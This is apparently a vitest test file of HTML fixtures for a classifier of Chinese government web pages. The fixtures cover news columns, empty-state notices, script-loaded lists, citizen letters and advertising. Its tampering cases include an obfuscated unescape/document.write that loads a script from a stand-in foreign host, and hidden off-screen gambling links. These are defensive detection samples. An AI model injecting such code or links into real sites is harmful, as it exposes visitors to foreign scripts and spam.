/** Columns that are empty, silent or left to a script, and what stands around them: each page stands for the way such pages are made. */
import { describe } from "vitest";
import { type Case, reads } from "./compare.ts";
import { mobile, modern, tables } from "./frames.ts";
import { plainTrail } from "./parts.ts";

const empty = (emptyWhy: string) => ({ isColumn: true, items: 0, empty: true, emptyWhy });

const lists: Case[] = [
  {
    name: "a day before a row whose title starts with a year",
    html: modern(
      "乡镇动态",
      `${plainTrail("乡镇动态")}<ul><li><a href="/2026/05/c1.html">国有土地使用权挂牌出让公告</a><em>05-21</em></li><li><a href="/2026/05/c2.html">2026年事业单位公开招聘面试公告</a><em>05-20</em></li></ul>`,
    ),
    label: { items: 2, newest: "2026-05-21" },
  },
  {
    name: "a floated day in front of a title that starts with digits",
    html: modern(
      "通知公告",
      `${plainTrail("通知公告")}<ul><li><span>2026-01-12</span><a href="/c1.html">2026年春节放假值班安排</a></li><li><span>2026-01-11</span><a href="/c2.html">关于开展安全检查的通知</a></li></ul>`,
    ),
    label: { items: 2, newest: "2026-01-12" },
  },
  {
    name: "a trail of hyphens",
    html: modern(
      "招标信息",
      `<div>您现在的位置：<a href="/">首页</a> - <a href="/gk/">公开</a> - 招标信息</div><ul><li><a href="/z/1.html">城区防洪工程施工招标公告</a><span>2026-02-11</span></li></ul><div>共1条 1/1 首页 上页 下页 尾页</div>`,
    ),
    label: { isColumn: true, items: 1 },
  },
  {
    name: "a box of recommendations beside an empty list",
    html: modern(
      "便民服务",
      `${plainTrail("便民服务")}<div class="l"><ul class="e2"></ul><ul class="pagelist"><li><span class="pager">共 <strong>1</strong>页<strong>0</strong>条记录</span></li></ul></div><dl><dt>推荐内容</dt><dd><ul>${[1, 2, 3, 4, 5].map((i) => `<li><a href="/x/${i}.html">全县第${i}季度安全生产工作视频会议召开</a></li>`).join("")}</ul></dd></dl>`,
    ),
    label: empty("notice"),
  },
];

const emptiness: Case[] = [
  {
    name: "近期暂无 and a thing of the column",
    html: modern("在线访谈", `${plainTrail("在线访谈")}<div class="tip"><p>近期暂无访谈</p></div>`),
    label: empty("notice"),
  },
  {
    name: "a table head and a row that says nothing was found",
    html: modern(
      "部门文件",
      `${plainTrail("部门文件")}<table><tr><th>标题</th><th>发文机构</th><th>发布日期</th></tr><tr><td colspan="3">没有检索到符合条件的记录</td></tr></table>`,
    ),
    label: empty("notice"),
  },
  {
    name: "no campaign under way",
    html: modern("意见征集", `${plainTrail("意见征集")}<p class="nodata">当前没有正在进行的征集活动</p>`),
    label: empty("notice"),
  },
  {
    name: "a column that is being rebuilt",
    html: modern("网上调查", `${plainTrail("网上调查")}<p>该栏目正在升级改造，给您带来不便敬请谅解。</p>`),
    label: empty("placeholder"),
  },
  {
    name: "two nouns before 正在完善中",
    html: modern("数据开放", `${plainTrail("数据开放")}<p>栏目内容正在完善中，敬请关注！</p>`),
    label: empty("placeholder"),
  },
  {
    name: "an office without a fax",
    html: tables("联系方式", `${plainTrail("联系方式")}<p>地址：人民路1号</p><p>传真 暂无</p>`),
    label: { isColumn: false, empty: false },
  },
  {
    name: "a player that a script puts into its box",
    html: modern(
      "视频新闻",
      `${plainTrail("视频新闻")}<div id="video"></div><div class="foot2"></div><script>var p = new Player({ id: "video", source: "/v/1.mp4" });</script>`,
    ),
    label: { isColumn: false, empty: false },
  },
  {
    name: "a total that waits for its script",
    html: modern(
      "行政许可",
      `${plainTrail("行政许可")}<ul id="rows"></ul><p>共<span id="total">0</span>条</p><script src="/js/xk.js"></script>`,
    ),
    label: { isColumn: true, items: 0, empty: null, emptyWhy: "script-filled" },
  },
  {
    name: "a template kept in a script",
    html: modern(
      "双公示",
      `${plainTrail("双公示")}<ul id="list"></ul><script id="t" type="text/x-handlebars-template">{{#each rows}}<li><a href="{{url}}">{{title}}</a></li>{{/each}}</script><script src="/js/sgs.js"></script>`,
    ),
    label: { isColumn: true, items: 0, empty: null, emptyWhy: "script-filled" },
  },
  {
    name: "a table of a component library",
    html: modern(
      "行政处罚",
      `${plainTrail("行政处罚")}<div id="main"><el-table :data="rows"></el-table><el-empty description="暂无数据"></el-empty></div><script>axios.get("/api/cf?pageNum=1").then(r => { this.rows = r.data.rows })</script>`,
    ),
    label: { isColumn: true, empty: null },
  },
];

const letters: Case[] = [
  {
    name: "a guest book whose answers carry their day in brackets",
    html: tables(
      "在线咨询",
      `${plainTrail("在线咨询")}${[1, 2].map((i) => `<table><tr><td>留言人：李**</td><td>留言主题：第${i}号农机补贴何时发放　留言时间：2026-8-${i} 9:11:22</td></tr><tr><td colspan="2">请尽快给予答复。</td></tr><tr><td colspan="2"><font color="red">管理员回复（2026-8-${i + 3}）：</font>您好，经核实，补贴已于本月发放到位。</td></tr></table>`).join("")}`,
    ),
    label: {
      messages: [
        ["第1号农机补贴何时发放", "2026-08-01T09:11", "2026-08-04", true],
        ["第2号农机补贴何时发放", "2026-08-02T09:11", "2026-08-05", true],
      ],
    },
  },
  {
    name: "states glued to the titles of cards",
    html: modern(
      "咨询投诉",
      `${plainTrail("咨询投诉")}<ul>${[1, 2].map((i) => `<li><h4><em>[咨询]</em><a href="/l/${i}.html">第${i}小学何时开学</a><i>${i === 1 ? "已答复" : "未答复"}</i></h4><p><span>来信人：张**</span><span>来信时间：2026-07-0${i}</span></p></li>`).join("")}</ul>`,
    ),
    label: {
      messages: [
        ["第1小学何时开学", "2026-07-01", null, true],
        ["第2小学何时开学", "2026-07-02", null, false],
      ],
    },
  },
  {
    name: "one letter below a box that is called a title",
    html: modern(
      "信件详细",
      `${plainTrail("区长信箱")}<div class="jact"><div class="title">建议延长路口绿灯时长</div><table><tr><td>来信人：</td><td>赵**</td><td>来信时间：</td><td>2026-03-15</td></tr><tr><td>处理状态：</td><td>已办结</td></tr></table><div class="nr">绿灯时间过短，建议延长。</div><table><tr><td>答复单位：</td><td>公安分局</td></tr><tr><td>答复时间：</td><td>2026-03-20</td></tr><tr><td>答复内容：</td><td>您好，经勘查已调整配时。</td></tr></table></div>`,
    ),
    label: { kind: "message", messages: [["建议延长路口绿灯时长", "2026-03-15", "2026-03-20", true]] },
  },
  {
    name: "a phone's cards: one link around title, source and day",
    html: mobile(
      "要闻",
      `<div class="l">${[1, 2, 3].map((i) => `<a class="i" href="/m/${i}"><p class="tit">县委常委会第${i}次会议召开</p><p><span>青岩发布</span><span>2026-11-0${i}</span></p></a>`).join("")}</div>`,
    ),
    label: { isColumn: true, items: 3, newest: "2026-11-03" },
  },
];

const rows = `${plainTrail("通知公告")}<ul><li><a href="/a/1.html">关于做好安全生产工作的通知</a><span>2026-03-01</span></li></ul>`;

const accused: Case[] = [
  {
    name: "a couplet written by a script",
    html: modern(
      "通知公告",
      `${rows}<script>document.write('<div id="duilian_left" style="position:fixed;left:5px"><a href="http://www.house-example.com/"><img src="/ad/l.gif" alt="盛大开盘 购房热线8888888"></a></div>');</script>`,
    ),
    label: { ads: ["floating"] },
  },
  {
    name: "a picture where the template has its advertising",
    html: modern(
      "通知公告",
      `${rows}<div class="banner-ad"><a href="http://www.hotel-example.com/"><img src="/i/h.jpg" title="大酒店特价房"></a></div>`,
    ),
    label: { ads: ["banner"] },
  },
  {
    name: "a network's own loader is an ad and no planted script",
    html: modern("通知公告", `${rows}<script src="//dup.baidustatic.com/js/os.js"></script>`),
    label: { ads: ["ad-network"], tampering: [] },
  },
  {
    name: "a planted script behind unescape",
    html: modern(
      "通知公告",
      `${rows}<script>document.write(unescape("%3Cscript src='http://js.counter-example.top/a.js'%3E%3C/script%3E"));</script>`,
    ),
    label: { tampering: ["foreign-script"] },
  },
  {
    name: "links between two scripts that open and close a box off screen",
    html: modern(
      "通知公告",
      `${rows}<script>document.write("<div style='position:absolute;left:-5000px'>");</script><a href="http://www.a1-example.com">博彩网</a><a href="http://www.b2-example.com">真钱游戏</a><a href="http://www.c3-example.com">百家乐</a><script>document.write("</div>");</script>`,
    ),
    label: { tampering: ["hidden-links"] },
  },
  {
    name: "the emblem's own unescape",
    html: modern(
      "通知公告",
      `${rows}<script>document.write(unescape("%3Cspan id='_ideConac'%3E%3C/span%3E%3Cscript src='http://dcs.conac.cn/js/20/295/0000/60437/CA202950000604370002.js'%3E%3C/script%3E"));</script>`,
    ),
    label: { ads: [], tampering: [] },
  },
];

const more: Case[] = [
  {
    name: "a catalogue table without a trail that starts at the front page",
    html: modern(
      "规范性文件-青岩县人民政府信息公开目录",
      `<div class="gk">青岩县人民政府 &gt; 法定主动公开内容 &gt; 规范性文件</div><table><tr><td>索引号</td><td>信息名称</td><td>成文日期</td><td>公开日期</td></tr>${[1, 2, 3, 4, 5, 6].map((i) => `<tr><td>11150500/2026-0000${i}</td><td><a href="/c${i}.html">县长第${i}次办公会议纪要</a></td><td>2026-04-0${i}</td><td>2026-04-1${i}</td></tr>`).join("")}</table>`,
    ),
    label: { isColumn: true, items: 6, newest: "2026-04-16" },
  },
  {
    name: "an empty list of none under 总共 0 记录",
    html: modern(
      "通知公告",
      `${plainTrail("通知公告")}<div id="wp_news_w6"></div><ul class="wp_paging"><li><span>总共&nbsp;<em>0</em>&nbsp;记录</span></li></ul>`,
    ),
    label: empty("notice"),
  },
  {
    name: "共有信息 0 条",
    html: tables(
      "招商项目",
      `${plainTrail("招商项目")}<p align=center>共有信息 0 条 分 0 页 当前第 1 页</p>`,
    ),
    label: empty("notice"),
  },
  {
    name: "暂时没有 and what the column shows",
    html: modern("在线直播", `${plainTrail("在线直播")}<div>抱歉，暂时没有相关直播！</div>`),
    label: empty("notice"),
  },
  {
    name: "内容筹备中",
    html: modern("教育督导", `${plainTrail("教育督导")}<p>内容筹备中……</p>`),
    label: empty("placeholder"),
  },
  {
    name: "a bundled application mounted in a box",
    html: modern(
      "行政许可",
      `${plainTrail("行政许可")}<div id="sgs-root"></div><script src="/static/js/chunk-vendors.8f2a.js"></script><script src="/static/js/app.11c0.js"></script>`,
    ),
    label: { isColumn: true, empty: null, emptyWhy: "script-filled" },
  },
  {
    name: "fragments of rows that a pager loads",
    html: modern(
      "新闻发布会",
      `${plainTrail("新闻发布会")}<div id="rows"></div><div id="Pagination" class="pagination"></div><script>function turn(p){$("#rows").load("/fbh/list_"+p+".html");} $("#Pagination").pagination(12,{callback:turn});</script>`,
    ),
    label: { isColumn: true, empty: null, emptyWhy: "script-filled" },
  },
  {
    name: "是否回复 with 是 and 否",
    html: tables(
      "投诉咨询",
      `${plainTrail("投诉咨询")}<table><tr><td>编号</td><td>标 题</td><td>留言日期</td><td>是否回复</td></tr><tr><td>2</td><td><a href="s.aspx?ID=2">门诊排队时间过长</a></td><td>2026/6/2</td><td>否</td></tr><tr><td>1</td><td><a href="s.aspx?ID=1">工资被拖欠三个月</a></td><td>2026/6/1</td><td>是</td></tr></table>`,
    ),
    label: {
      messages: [
        ["门诊排队时间过长", "2026-06-02", null, false],
        ["工资被拖欠三个月", "2026-06-01", null, true],
      ],
    },
  },
  {
    name: "提问于 and 回复于, and a foot that names the site's keeper",
    html: modern(
      "信件详情",
      `${plainTrail("市长信箱", "信件详情")}<h3 class="xj-title">建议门诊增加窗口</h3><div class="who">网友 李** 提问于 2026-10-02</div><p>早上排队两小时。</p><div class="who">市卫健委 回复于 2026-10-08</div><p>您好，已增设三个窗口。</p>`,
    ),
    label: { kind: "message", messages: [["建议门诊增加窗口", "2026-10-02", "2026-10-08", true]] },
  },
  {
    name: "questions without labels invent no letter of the trail",
    html: tables(
      "网上问答",
      `${plainTrail("网上问答")}<table><tr><td><b>问：</b>工资拖欠怎么办？ [2026-05-01]</td></tr><tr><td><b>答：</b>您好，请到劳动监察大队反映。 [2026-05-11]</td></tr></table>`,
    ),
    label: { messages: [] },
  },
  {
    name: "a floating picture of flats",
    html: modern(
      "通知公告",
      `${rows}<div id="piaochuang1"><a href="http://www.flats-example.com/"><img src="/ad/lp.jpg" alt="御景天城 火热认筹 均价5800元"></a></div>`,
    ),
    label: { ads: ["floating"] },
  },
  {
    name: "a brand in the place of another word",
    html: modern(
      "工作要点",
      `${plainTrail("正文")}<h1>政务公开工作要点</h1><p>发布时间：2026-05-06</p><p>要在尊龙凯时首页显著位置设置专栏，加强尊龙凯时信息发布，及时回应尊龙凯时关切。</p>`,
    ),
    label: { tampering: ["inserted-text"] },
  },
  {
    name: "the same brand in a report of a trial",
    html: modern(
      "审判公开",
      `${plainTrail("正文")}<h1>典型案例</h1><p>发布时间：2026-05-06</p><p>被告人在尊龙凯时网站工作，为尊龙凯时平台提供服务，在尊龙凯时管理部门任职，以开设赌场罪判处有期徒刑三年。</p>`,
    ),
    label: { tampering: [] },
  },
];

const yet: Case[] = [
  {
    name: "days under the headings of their years",
    html: modern(
      "大事记",
      `${plainTrail("大事记")}<h3>2026年</h3><ul><li><span>01-11</span><a href="/d/1.html">全县教育大会召开</a></li><li><span>02-12</span><a href="/d/2.html">2026年行政执法年报发布</a></li></ul><h3>2025年</h3><ul><li><span>12-13</span><a href="/d/3.html">雨污分流工程开工建设</a></li></ul>`,
    ),
    label: { items: 3, newest: "2026-02-12" },
  },
  {
    name: "a day and its clicks in one bracket",
    html: tables(
      "动态",
      `<table><tr><td>当前位置：首页 &gt;&gt; 动态</td></tr>${[1, 2, 3].map((i) => `<tr><td>·<a href="show.asp?id=${i}">街道开展第${i}次消防演练</a> <font>(2009-${i}-11，点击：13)</font></td></tr>`).join("")}</table>`,
    ),
    label: { isColumn: true, items: 3, newest: "2009-03-11" },
  },
  {
    name: "a letter with the labels of an answer and no answer",
    html: modern(
      "信件详情",
      `${plainTrail("区长信箱", "信件详情")}<table><tr><td>信件标题：</td><td>路灯损坏无人维修</td></tr><tr><td>来信时间：</td><td>2026-08-03</td></tr><tr><td>信件内容：</td><td>路灯坏了一周。</td></tr><tr><td>回复时间：</td><td></td></tr><tr><td>回复内容：</td><td></td></tr></table>`,
    ),
    label: { kind: "message", messages: [["路灯损坏无人维修", "2026-08-03", null, null]] },
  },
  {
    name: "a report of a fair with its words of trade and an office's number",
    html: modern(
      "农博会",
      `${plainTrail("正文")}<h1>我县组织企业参加农博会</h1><p>发布时间：2026-05-06</p><p>12家企业参展，现场推出优惠促销、立即购买赠礼活动，联系电话027-86543210。</p>`,
    ),
    label: { ads: [] },
  },
  {
    name: "syllables in the place of characters before a comma",
    html: modern(
      "说明",
      `${plainTrail("正文")}<h1>说明</h1><p>受理对象包括对政fu工作的建yi、意见，社hui发展的咨xun，不受理涉fa问ti，请实ming反映。</p>`,
    ),
    label: { tampering: ["pinyin-residue"] },
  },
];

const silences: Case[] = [
  {
    name: "offices in one line",
    html: modern("内设机构", `${plainTrail("内设机构")}<div>办公室、秘书科、督查室、信息科</div>`),
    label: { isColumn: false, empty: false },
  },
  {
    name: "a list that a call of the site's own fills",
    html: modern(
      "财政信息",
      `${plainTrail("财政信息")}<div class="list"></div><script>initList({ channel: "czxx", container: ".list" });</script>`,
    ),
    label: { empty: null, emptyWhy: "script-filled" },
  },
  {
    name: "a chart in the background of a box",
    html: modern(
      "办事流程",
      `${plainTrail("办事流程")}<div style="background:url(/up/lc.png);height:900px"></div>`,
    ),
    label: { isColumn: false, empty: false },
  },
  {
    name: "the head of a table and no row",
    html: modern(
      "行政检查",
      `${plainTrail("行政检查")}<table><thead><tr><th>序号</th><th>名称</th><th>时间</th></tr></thead><tbody></tbody></table>`,
    ),
    label: empty("silent"),
  },
  {
    name: "目前还没有 and what the column shows",
    html: modern("网上听证", `${plainTrail("网上听证")}<p>很抱歉，目前还没有听证信息！</p>`),
    label: empty("notice"),
  },
  {
    name: "a guest book of boxes, answered by its keeper",
    html: tables(
      "留言板",
      `${plainTrail("留言板")}${[1, 2].map((i) => `<div class="gb"><h5>第${i}村自来水停水半个月</h5><p>昵称：网友${i}　发表于：2026-05-0${i}</p><p>请尽快恢复。</p>${i === 2 ? "" : `<div><b>管理员回复：</b>您好，已核实并处理，感谢关注。 2026-05-11</div>`}</div>`).join("")}`,
    ),
    label: {
      messages: [
        ["第1村自来水停水半个月", "2026-05-01", "2026-05-11", true],
        ["第2村自来水停水半个月", "2026-05-02", null, null],
      ],
    },
  },
];

describe("silence", () => reads(silences));
describe("still more makes", () => reads(yet));
describe("more makes", () => reads(more));
describe("rows and trails", () => reads(lists));
describe("empty or not to be told", () => reads(emptiness));
describe("letters and cards", () => reads(letters));
describe("advertising and planted code", () => reads(accused));
